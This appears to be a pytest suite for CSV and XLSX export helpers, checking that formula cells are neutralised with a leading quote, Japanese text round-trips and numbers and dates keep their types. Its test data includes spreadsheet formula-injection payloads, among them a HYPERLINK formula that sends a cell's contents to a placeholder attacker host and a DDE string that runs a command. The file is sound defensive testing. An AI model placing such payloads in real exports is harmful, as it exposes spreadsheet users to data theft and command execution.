"""CSV and XLSX downloads: formula cells neutralised, Japanese intact, types kept."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from reports.exports import csv_response, neutralize_cell, sheet_title_of, xlsx_response

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(A1)",
]


@pytest.mark.parametrize("value", MALICIOUS)
def test_formula_text_gets_a_leading_quote(value):
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Acme", "アクメ部品株式会社", "a=b", "e-mail", "", "1-2-3 Minato", "\uff1d全角"],
)
def test_ordinary_text_is_untouched(value):
    assert neutralize_cell(value) == value


@pytest.mark.parametrize(
    "value", [0, -5, 3.5, Decimal("-1234.50"), True, None, dt.date(2026, 4, 1)]
)
def test_numbers_dates_and_none_keep_their_type(value):
    assert neutralize_cell(value) is value


def read_csv(response) -> tuple[bytes, list[list[str]]]:
    raw = b"".join(response.streaming_content)
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("column", [0, 1, 2])
def test_csv_neutralises_a_malicious_cell_in_any_position(column):
    # Given a row with a formula in one column, and a header that is one too
    row = ["ACME-001", "アクメ", 1200]
    row[column] = "=1+1"

    # When it is exported
    response = csv_response([row], header=["=code", "名前", "amount"], filename="s.csv")

    # Then the formula arrives as quoted text, everything else as it was
    _, rows = read_csv(response)
    assert rows[0] == ["'=code", "名前", "amount"]
    assert rows[1][column] == "'=1+1"
    assert [v for i, v in enumerate(rows[1]) if i != column] == [
        str(v) for i, v in enumerate(["ACME-001", "アクメ", 1200]) if i != column
    ]


def test_csv_is_utf8_with_bom_and_japanese_round_trips():
    response = csv_response(
        iter([["ACME-001", "アクメ部品株式会社", Decimal("1234.50"), dt.date(2026, 3, 31), None]]),
        header=["コード", "名前", "金額", "日付", "空"],
        filename="仕入先一覧.csv",
    )
    raw, rows = read_csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert rows == [
        ["コード", "名前", "金額", "日付", "空"],
        ["ACME-001", "アクメ部品株式会社", "1234.50", "2026-03-31", ""],
    ]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "filename*=UTF-8''%E4%BB%95%E5%85%A5" in response["Content-Disposition"]
    assert response.streaming


def test_csv_streams_lazily():
    from reports.exports import CSV_CHUNK_ROWS

    produced = []

    def rows():
        for i in range(3 * CSV_CHUNK_ROWS):
            produced.append(i)
            yield [i]

    response = csv_response(rows(), header=["n"], filename="n.csv")
    assert produced == []  # nothing read before the response is sent
    chunks = iter(response.streaming_content)
    next(chunks)  # the header
    next(chunks)  # the first chunk of rows, read as it is sent
    assert len(produced) == CSV_CHUNK_ROWS


def test_csv_writes_aware_datetimes_in_local_time(settings):
    settings.TIME_ZONE = "Asia/Tokyo"
    when = dt.datetime(2026, 3, 31, 15, 0, tzinfo=ZoneInfo("UTC"))
    _, rows = read_csv(csv_response([[when]], header=["at"], filename="t.csv"))
    assert rows[1] == ["2026-04-01 00:00:00"]


def read_xlsx(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return workbook.active


@pytest.mark.parametrize("column", [0, 1, 2, 3])
def test_xlsx_neutralises_a_malicious_cell_in_any_position(column):
    row = ["ACME-001", "アクメ", 1200, "ok"]
    row[column] = '=HYPERLINK("http://evil.example")'
    sheet = read_xlsx(
        xlsx_response([row], header=["a", "b", "c", "d"], filename="s.xlsx", sheet_title="S")
    )
    cell = sheet.cell(row=2, column=column + 1)
    assert cell.data_type == "s"  # text, not a formula
    assert cell.value == '\'=HYPERLINK("http://evil.example")'
    formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_xlsx_keeps_numbers_and_dates_typed_and_japanese_intact(settings):
    settings.TIME_ZONE = "Asia/Tokyo"
    # Given values of every type
    row = [
        "アクメ部品株式会社",
        1200,
        Decimal("1234.50"),
        -3.25,
        dt.date(2026, 3, 31),
        dt.datetime(2026, 3, 31, 15, 0, tzinfo=ZoneInfo("UTC")),
        None,
        "-5",
    ]

    # When they are exported
    response = xlsx_response(
        [row], header=["名前"] * len(row), filename="一覧.xlsx", sheet_title="仕入先"
    )

    # Then numbers are numbers, dates are dates (local time), text is text
    sheet = read_xlsx(response)
    cells = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    assert sheet.title == "仕入先"
    assert cells[0].value == "アクメ部品株式会社"
    assert [c.data_type for c in cells[1:4]] == ["n", "n", "n"]
    assert [c.value for c in cells[1:4]] == [1200, 1234.5, -3.25]
    assert cells[4].is_date and cells[4].value == dt.datetime(2026, 3, 31)
    assert cells[5].is_date and cells[5].value == dt.datetime(2026, 4, 1, 0, 0)
    assert cells[6].value is None
    assert cells[7].value == "'-5"  # text that looks like a formula stays text
    assert sheet["A1"].font.bold
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )


def test_xlsx_drops_control_characters_instead_of_failing():
    sheet = read_xlsx(
        xlsx_response([["a\x00b\x07c"]], header=["h"], filename="c.xlsx", sheet_title="S")
    )
    assert sheet["A2"].value == "abc"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Suppliers 2026/27: [draft]?", "Suppliers 2026 27 draft"),
        ("", "Sheet1"),
        ("x" * 40, "x" * 31),
    ],
)
def test_sheet_titles_are_made_acceptable_to_excel(title, expected):
    assert sheet_title_of(title) == expected
